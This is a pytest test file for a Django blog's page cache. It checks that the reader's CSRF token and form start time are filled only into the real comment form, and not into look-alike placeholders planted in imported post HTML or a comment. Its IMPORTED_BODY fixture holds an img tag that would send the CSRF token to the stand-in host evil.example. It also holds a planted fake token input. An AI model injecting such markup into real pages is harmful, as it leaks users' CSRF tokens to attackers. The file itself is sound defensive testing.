"""A reader's CSRF token and form start time go only where the form has them: text in a
comment or an imported post that looks like a placeholder or a token field stays text."""

import gzip

import pytest
from django.test import Client
from django.utils import timezone
from lxml import html as lxml_html

from dateline.comments.models import Comment
from dateline.posts.models import Post
from tests.serving.wsgi import call_wsgi

pytestmark = pytest.mark.django_db

# What the page cache once filled in anywhere on a cached page, and the field it searched for.
LOOKALIKES = [
    "__DATELINE_CSRF_TOKEN__",
    "__DATELINE_FORM_STARTED__",
    'name="csrfmiddlewaretoken" value="planted"',
    'name="started" value="planted"',
]
IMPORTED_BODY = (
    '<p>Imported.</p><img src="https://evil.example/?t=__DATELINE_CSRF_TOKEN__">'
    '<form><input name="csrfmiddlewaretoken" value="planted"></form>'
)


@pytest.fixture
def planted_post(make_post) -> Post:
    """A post whose stored HTML (as an import may leave it) and whose comment hold
    look-alikes of the form's reader fields."""
    post = make_post(title="Planted")
    Post.objects.filter(pk=post.pk).update(body_html=IMPORTED_BODY)
    Comment.objects.create(post=post, author_name="Mallory", body=" ".join(LOOKALIKES),
                           created_at=timezone.now(), status="approved")  # fmt: skip
    return Post.objects.get(pk=post.pk)


def form_values(body: bytes) -> tuple[str, str]:
    form = lxml_html.fromstring(body).xpath('//form[starts-with(@action, "/comments/")]')[0]
    token = form.xpath('.//input[@name="csrfmiddlewaretoken"]')[0].get("value")
    return token, form.xpath('.//input[@name="started"]')[0].get("value")


def assert_only_the_form_is_filled(body: bytes) -> None:
    token, started = form_values(body)
    text = body.decode()
    assert text.count(token) == 1 and text.count(started) == 1
    assert "https://evil.example/?t=__DATELINE_CSRF_TOKEN__" in text
    assert 'name="csrfmiddlewaretoken" value="planted"' in text
    assert "__DATELINE_FORM_STARTED__" in text


def test_cached_pages_fill_in_reader_values_only_in_the_form(planted_post):
    for attempt in ("miss", "hit"):
        response = Client().get(planted_post.path)
        assert response["X-Dateline-Cache"] == attempt
        assert_only_the_form_is_filled(response.content)


def test_the_fast_path_fills_in_reader_values_only_in_the_form(fast_app, planted_post):
    call_wsgi(fast_app, planted_post.path)
    for encoding in ("", "gzip"):
        _, headers, body = call_wsgi(fast_app, planted_post.path, HTTP_ACCEPT_ENCODING=encoding)
        assert headers["x-dateline-cache"] == "fast"
        if encoding:
            body = gzip.decompress(body)
        assert_only_the_form_is_filled(body)


def test_a_page_answered_unstored_gets_real_values_too(planted_post):
    response = Client().get(planted_post.path + "?junk=1")
    assert "X-Dateline-Cache" not in response
    assert_only_the_form_is_filled(response.content)


def test_the_reader_field_names_are_the_forms_own():
    """core.readerfields names the inputs the page cache, the mirror and its script fill:
    they must be the comment form's start field and Django's CSRF input."""
    from dateline.comments.forms import CommentForm
    from dateline.core.readerfields import CSRF, FIELD_NAMES, STARTED

    assert FIELD_NAMES[STARTED] in CommentForm.base_fields
    assert FIELD_NAMES[CSRF] == "csrfmiddlewaretoken"  # what CsrfViewMiddleware reads
